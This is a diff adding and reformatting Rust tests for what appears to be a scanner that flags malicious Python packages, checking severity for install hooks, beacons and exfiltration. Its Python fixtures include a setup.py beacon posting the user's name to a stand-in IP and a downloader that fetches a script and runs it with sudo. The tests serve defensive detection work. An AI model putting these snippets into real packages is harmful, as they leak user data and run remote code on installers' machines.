@@ -242,6 +242,13 @@ fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
     let env = "import os, requests\nrequests.post('http://203.0.113.9/b', json={'who': os.environ['USERNAME']})\n";
     let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/setup.py", bytes: env.as_bytes() }]);
     assert!(report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
+    // Deeper in the tree, a module named `setup.py` (a CLI's `setup`
+    // command, beside its other commands): pip never runs it.
+    let command = env.replace("requests.post(", "def run():\n    requests.post(");
+    let report =
+        scan(&ManifestFacts::default(), &[Entry { path: "pkg/cli/commands/setup.py", bytes: command.as_bytes() }]);
+    assert!(!report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
 
     // From an rpyx install hook: a beacon too.
     let hooked = ManifestFacts { hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
@@ -606,6 +613,17 @@ fn a_download_and_a_process_count_together_only_where_they_meet() {
                urllib.request.urlretrieve(url, 'a.bin')\n    subprocess.Popen(['b'])\n";
     assert_eq!(level(one).map(|l| l.0), Some(Severity::High));
     assert_eq!(level(&format!("{one}go('http://203.0.113.8/x')\n")).map(|l| l.0), Some(Severity::Critical));
+    // A module's default object whose method does it, bound again under the
+    // same name for its users (`download = _downloader.download`): nothing
+    // runs while loading. Called while loading, or handed on under another
+    // name, it does.
+    let api = "import subprocess, urllib.request\nclass Downloader:\n    def download(self, url):\n        \
+               urllib.request.urlretrieve(url, 'a.sh')\n        subprocess.call(['sudo', 'a.sh'])\n\
+               _downloader = Downloader()\ndownload = _downloader.download\n";
+    assert_eq!(level(api).map(|l| l.0), Some(Severity::High), "{api}");
+    for loads in [format!("{api}download('http://203.0.113.8/x')\n"), api.replace("download = _d", "hook = _d")] {
+        assert_eq!(level(&loads).map(|l| l.0), Some(Severity::Critical), "{loads}");
+    }
     // Run as a program (`python -m`): its user asked for it.
     let program = format!("{one}if __name__ == '__main__':\n    go('http://203.0.113.8/x')\n");
     assert_eq!(level(&program).map(|l| l.0), Some(Severity::High));
@@ -664,7 +682,9 @@ fn a_method_of_its_own_class_named_send_is_not_a_network_send() {
     let r = rules(&posts);
     assert!(r.iter().any(|(id, s)| *id == "exfiltration" && *s >= Severity::High), "{r:?}");
     // A `send` the class does not define (a socket subclass's) is a send.
-    let socket = wallet.replace("class Wallet:", "import socket\nclass Wallet(socket.socket):").replace("def send(", "def sent(");
+    let socket = wallet
+        .replace("class Wallet:", "import socket\nclass Wallet(socket.socket):")
+        .replace("def send(", "def sent(");
     let r = rules(&socket);
     assert!(r.iter().any(|(id, _)| *id == "exfiltration"), "{r:?}");
 }
@@ -736,7 +756,8 @@ fn data_flows_across_the_files_of_a_package_are_followed() {
     assert_eq!(x.severity, Severity::Medium, "{x:#?}");
     let at_load = format!("{helper}get_credentials(DB, 'a@b.c')\n");
     let carried = helper.replace("r[0]['token']", "'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'");
-    let own = format!("{decrypt}BLOB = 'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'\ndef payload():\n    return decrypt_secure(BLOB)\n");
+    let own =
+        format!("{decrypt}BLOB = 'Z0FBQUFBQm1RbTFhYjNkUmN2eGJ3'\ndef payload():\n    return decrypt_secure(BLOB)\n");
     for (encrypt, auth) in [(decrypt, at_load.as_str()), (decrypt, carried.as_str()), (own.as_str(), helper)] {
         let entries = [
             Entry { path: "pkg/core/encrypt.py", bytes: encrypt.as_bytes() },
